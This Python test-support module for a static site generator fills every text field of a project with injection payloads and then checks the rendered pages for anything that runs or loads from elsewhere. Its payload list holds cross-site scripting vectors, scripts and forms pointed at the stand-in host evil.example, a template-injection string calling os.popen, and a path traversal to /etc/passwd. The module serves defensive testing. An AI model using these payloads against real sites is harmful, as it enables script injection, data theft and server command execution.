"""What somebody who means harm would write, and where: for the tests that nothing of it gets far.

In: a project. Out: the same with one payload in every text of records, words, site, map and docs/;
and for a drawn page, whatever in it runs, loads from elsewhere, or has left its place.
"""

import json
import re
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence, Set
from dataclasses import dataclass
from itertools import cycle, islice
from pathlib import Path
from typing import Any

import lxml.html

from etalage.loading.yaml import read_document
from etalage.model import KINDS
from etalage.problems import Key, Problem, dotted
from etalage.words import brought_words
from projects import CORNER, REGION, make_region, read_record, say_in, write_record

ELSEWHERE = "evil.example"
"""Host of all that would be loaded."""

PAYLOADS = {
    "plain words": "zq",
    "script": "zq<script>zq()</script>",
    "script from elsewhere": f"zq<script src=//{ELSEWHERE}/x.js></script>",
    "handler": "zq<img src=x onerror=zq()>",
    "handler of a drawing": "zq<svg/onload=zq()><animate onbegin=zq() attributeName=x>",
    "out of an attribute": 'zq" onmouseover="zq()" style="x" autofocus="',
    "out of an attribute in single quotes": "zq' onfocus='zq()' style='x' x='",
    "out of an attribute without quotes": "zq onfocus=zq() `x` =",
    "out of every element": (
        "zq</title></style></script></textarea></noscript><script>zq()</script>"
    ),
    "out of a comment": "zq--><script>zq()</script><!--",
    "out of data": "zq]]><script>zq()</script><![CDATA[",
    "out of a script": "zq\"}]};zq();//'; ${zq()} `",
    "frames": f'zq<iframe srcdoc="<script>zq()</script>"></iframe><object data=//{ELSEWHERE}>',
    "another base": (
        f"zq<base href=//{ELSEWHERE}/><meta http-equiv=refresh content=0;url=//{ELSEWHERE}>"
    ),
    "a form": f"zq<form action=//{ELSEWHERE}><input name=x><button formaction=javascript:zq()>",
    "styles": f"zq<style>@import '//{ELSEWHERE}';*{{background:url(//{ELSEWHERE})}}</style>",
    "what parsers read in two ways": (
        "zq<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=zq()&gt;">'
    ),
    "what parsers read in two ways too": (
        'zq<noscript><p title="</noscript><img src=x onerror=zq()>">'
    ),
    "half a tag": "zq<img src=x onerror=zq() ",
    "entities": "zq&lt;script&gt;zq()&lt;/script&gt;&#x3C;img src=x onerror=zq()&#62;",
    "link that runs": "zq [zq](javascript:zq())",
    "link that runs in disguise": "zq [zq](JaVa&#115;cript&colon;zq()) [zq](<java script:zq()>)",
    "link that is data": "zq [zq](data:text/html,<script>zq()</script>) [zq](vbscript:zq)",
    "link that stands apart": "zq [zq][zq] zq\n\n[zq]: javascript:zq()\n",
    "address in angles": "zq <javascript:zq()> <data:text/html,zq>",
    "address as a whole": "javascript:zq()",
    "address with a way out": "https://zq.example/\"onx=zq()'><script>zq()</script>",
    "address of another host": f"//{ELSEWHERE}/zq",
    "picture from elsewhere": f"zq ![zq](https://{ELSEWHERE}/zq.png) ![zq](//{ELSEWHERE}/x)",
    "picture that runs": 'zq ![zq" onerror="zq()](x" onerror="zq())',
    "title of a link": "zq [zq](https://zq.example/ 't\" onmouseover=\"zq()')",
    "names of code": 'zq\n\n```zq" onmouseover="zq()\n<script>zq()</script>\n```\n',
    "headings and tables": (
        'zq\n\n# zq" onx="zq()\n\n| zq"onx="zq() | <script>zq()</script> |\n|---|---|\n'
    ),
    "marks": (
        'zq ["onx=zq()<b>]{lang=fy} [zq]{lang=fy" onx="zq()} [<img src=x onerror=zq()>]{lang=nds}'
    ),
    "template": (
        "zq {{ cycler.__init__.__globals__.os.popen('id').read() }} {% include 'x' %} {{ 7*7 }}"
    ),
    "values": "zq {0.__class__} {date.__class__.__init__.__globals__} %(zq)s %s ${zq}",
    "tokens of our own": "zq zqsitevalue0zq zqsitevalue99zq \\1 \\g<0>",
    "path": "../../../../etc/passwd",
    "letters that turn": "zq \u202e<script>\u2066zq()",
    "letters that steer": "zq\x1b[31m\x00\x07<script>\r\n::error::zq()",
    "a word without end": "zq" * 90,
}

DOCUMENT = """\
---
title: {title}
label: {label}
description: {description}
---

{paragraph}

- {item}

> {quotation}

## {heading}

**{strong}** and `{code}`

[{words}](about.md) and more

[zq]({target})

![{alternative}](assets/images/vuurtoren.svg)

![zq]({picture})

[{foreign}]{{lang=fy}}

[zq]{{lang={language}}}

[@{source}]

{{{{ {value} }}}}

| {header} |
|---|
| {cell} |
"""
"""A text of docs/ with a name for every place that something can be written in."""

HARMLESS = {
    "target": "about.md",
    "picture": "assets/images/vuurtoren.svg",
    "language": "fy",
    "source": "gids",
    "value": "site.publisher",
}
"""What stands in a place of DOCUMENT that takes no words; in all others it is `zq`."""

SLOT = re.compile(r"(?<!\{)\{([a-z]+)\}|(?<=\{\{ )\{([a-z]+)\}(?= \}\})")

NAMES = re.compile(r"place_(kinds|codes)\.\d+\.(name|form|within\.\d+)")
"""By which records choose what the site lists, as they do other records by the names of files."""

WORDS = "data/interface.yml"
LANGUAGES = ("nl", "en")

Place = tuple[str, Key]
"""File, and the key of a place in it; in docs/ the name of the place in DOCUMENT."""

LISTED = re.compile(r"(data/[\w/-]+\.yml):(\d+)")
"""File and line of a place, in a message that lists many."""


class Hostile:
    """A project of which every text can be replaced."""

    def __init__(self, root: Path) -> None:
        self.root = root
        files = [path for path in (root / "data").rglob("*.yml") if "schema" not in path.parts]
        self.values = {path.relative_to(root).as_posix(): read_record(path) for path in files}
        """File of data/ -> what it says by itself."""

        self.texts = [path.relative_to(root).as_posix() for path in (root / "docs").glob("*.md")]
        self.kept: set[Place] = set()
        """Places that refused a payload, where all is as it was."""

        self.lines: dict[Place, range] = {}
        """Place that has a payload -> the lines that it takes."""

        self.groups: dict[tuple[str, str], int] = {}
        """File and dotted key -> line of that key, also of what has places inside it."""

        self._payloads: Iterator[str] = iter(())
        self._payload = ""

    def fill(self, payloads: Sequence[str], first: int) -> None:
        """Write payloads in all places but those that are kept, beginning with the first."""
        self._payloads = islice(cycle(payloads), first, None)
        self.lines, self.groups = {}, {}
        for file, values in self.values.items():
            path = self.root / file
            filled = self._filled(values, file, ())
            # JSON is YAML too, and written ten times as fast.
            written = json.dumps(filled, ensure_ascii=False, indent=1, default=float)
            path.write_text(written, "utf-8")
            known = read_document(path).lines
            self.groups |= {(file, dotted(key)): line for key, line in known.items()}
            for key in (key for name, key in self.lines if name == file):
                self.lines[file, key] = range(known.get(key, 0), known.get(key, 0) + 1)
        for file in self.texts:
            (self.root / file).write_text(self._document(file), "utf-8")

    def _filled(self, value: Any, file: str, key: Key) -> Any:
        if isinstance(value, dict):
            return {name: self._filled(it, file, (*key, name)) for name, it in value.items()}
        if isinstance(value, list):
            return [self._filled(it, file, (*key, number)) for number, it in enumerate(value)]
        if not isinstance(value, str) or NAMES.fullmatch(dotted(key)):
            return value
        is_word = file == WORDS
        # A word has the same places for values in every language.
        payload = self._payload if is_word and key[1:] != LANGUAGES[:1] else next(self._payloads)
        self._payload = payload
        if _kept_as(file, key) in self.kept:
            return value
        self.lines[file, key] = range(0)
        return " ".join([payload, *(re.findall(r"\{\w+\}", value) if is_word else ())])

    def _document(self, file: str) -> str:
        written = ""
        for part in re.split(r"(\{[a-z]+\})", DOCUMENT):
            if not re.fullmatch(r"\{[a-z]+\}", part):
                written += part.replace("{{", "{").replace("}}", "}")
                continue
            name, payload = part.strip("{}"), next(self._payloads)
            first = written.count("\n") + 1
            text = HARMLESS.get(name, "zq") if (file, (name,)) in self.kept else payload
            is_yaml = name in ("title", "label", "description")
            written += json.dumps(text, ensure_ascii=False) if is_yaml else text
            if (file, (name,)) not in self.kept:
                self.lines[file, (name,)] = range(first, written.count("\n") + 2)
        return written

    def place_of(self, problem: Problem) -> Place | None:
        """The place of a payload that a problem is about; None where it names another."""
        for (file, key), lines in self.lines.items():
            if file != problem.file:
                continue
            is_here = file.startswith("docs/") or problem.key in ("", dotted(key), str(key[0]))
            if problem.line in lines and is_here:
                return _kept_as(file, key)
            is_around = dotted(key).startswith(f"{problem.key}.")
            if is_around and problem.line == self.groups.get((file, problem.key)):
                return _kept_as(file, key)
        return None

    def others_of(self, problem: Problem) -> set[Place]:
        """Places that a problem lists besides its own, for it is about a record that many name."""
        named = {(file, int(line)) for file, line in LISTED.findall(problem.message)}
        return {
            _kept_as(file, key)
            for (file, key), lines in self.lines.items()
            if any((file, line) in named for line in lines)
        }


def _kept_as(file: str, key: Key) -> Place:
    """A word is kept in every language or in none."""
    return file, key[:1] if file == WORDS else key


def make_dense_corner(folder: Path) -> Path:
    """The corner of the invented region, its first record of each kind with every kind of text."""
    root = make_region(folder, CORNER)
    for language in LANGUAGES:
        say_in(root, language, brought_words(language))
    for kind in KINDS:
        first = next(root.glob(f"data/{kind}/*.yml"))
        values = read_record(first)
        for other in sorted(REGION.glob(f"data/{kind}/*.yml")):
            for key, value in read_record(other).items():
                if key not in UNCOPIED and not isinstance(values.get(key), dict | str):
                    values[key] = _joined(values.get(key), _within_corner(value))
        write_record(first, values)
    return root


STAND_INS: dict[str, Any] = {
    "source": "gids",
    "document": "gids",
    "organisation": "duinlab",
    "audience": ["citizen"],
}
"""Key -> a record of the corner to refer to, or a choice that must be made."""

UNCOPIED = {
    "codes",
    "broader",
    "place",
    "successor",
    "within",
    "end",
    "last_known_active",
    "lead_known",
    "partners",
    "redirect_from",
    "start",
    "succeeds",
}
"""Keys whose values rule each other out, and those that the corner has."""


def _joined(value: Any, other: Any) -> Any:
    if isinstance(value, list) and isinstance(other, list):
        return [*value, *(it for it in other if it not in value and isinstance(it, dict))]
    return other if value is None else value


def _within_corner(value: Any) -> Any:
    """The same value, referring to nothing outside the corner."""
    if isinstance(value, dict):
        return {key: STAND_INS.get(key) or _within_corner(it) for key, it in value.items()}
    if isinstance(value, list):
        return [_within_corner(it) for it in value if not isinstance(it, str)]
    return "zq" if isinstance(value, str) and re.search(r"\s", value) else value


RUNS = re.compile(r"(javascript|vbscript|data|blob|file):", re.I)
UNSEEN = re.compile(r"[\s\x00-\x1f]")
"""What a browser leaves out of an address."""

LOADS = {
    "src",
    "srcset",
    "data",
    "poster",
    "background",
    "action",
    "formaction",
    "manifest",
    "ping",
}
PARTS = {"script", "style", "meta", "link", "base", "form", "input", "button", "select", "option"}
"""Elements of which a page has as many as its template gives it."""

PROSE = {"p", "em", "strong", "ul", "ol", "li", "blockquote", "br", "pre", "code", "hr", "table"}


@dataclass(frozen=True)
class Drawn:
    """What stands in one page."""

    attributes: Set[tuple[str, str]]
    """Name of an element, and of an attribute that it has; empty for none."""

    classes: Set[str]
    parts: Mapping[str, int]
    harm: Sequence[str]
    """What runs or loads from elsewhere."""


def look_at(html: str) -> Drawn:
    attributes, classes, parts, harm = (
        set[tuple[str, str]](),
        set[str](),
        Counter[str](),
        list[str](),
    )
    for element in lxml.html.document_fromstring(html).iter():
        if not isinstance(element.tag, str):
            harm.append(f"a comment: {element.text}")
            continue
        tag = element.tag
        parts[tag] += tag in PARTS
        attributes.add((tag, ""))
        for name, value in element.attrib.items():
            attributes.add((tag, name))
            harm += [f"<{tag} {name}={value!r}>"] if _harms(tag, name, value) else []
        classes.update(element.get("class", "").split())
        if tag in ("script", "style") and element.text and not _is_data(element):
            harm.append(f"<{tag}>{element.text}")
    return Drawn(attributes, classes, parts, harm)


def _is_data(element: lxml.html.HtmlElement) -> bool:
    """What search engines read and no browser runs; it must be JSON, or it ended too early."""
    if element.get("type") != "application/ld+json":
        return False
    json.loads(element.text)
    return True


def _harms(tag: str, name: str, value: str) -> bool:
    is_address = name in LOADS or name.endswith("href")
    if (
        name.startswith("on")
        or name in ("style", "srcdoc")
        or (is_address and RUNS.match(UNSEEN.sub("", value)))
    ):
        return True
    is_loaded = name in LOADS or (tag in ("link", "use", "image") and name.endswith("href"))
    if tag == "meta" and value.startswith("0"):
        is_loaded, value = True, value.partition("=")[2]
    is_away = re.match(r"\s*(?:[a-z]+:)?[/\\]{2}", value, re.I) and not value.startswith(OWN)
    return bool(is_loaded and is_away)


OWN = "https://duinland.example/"
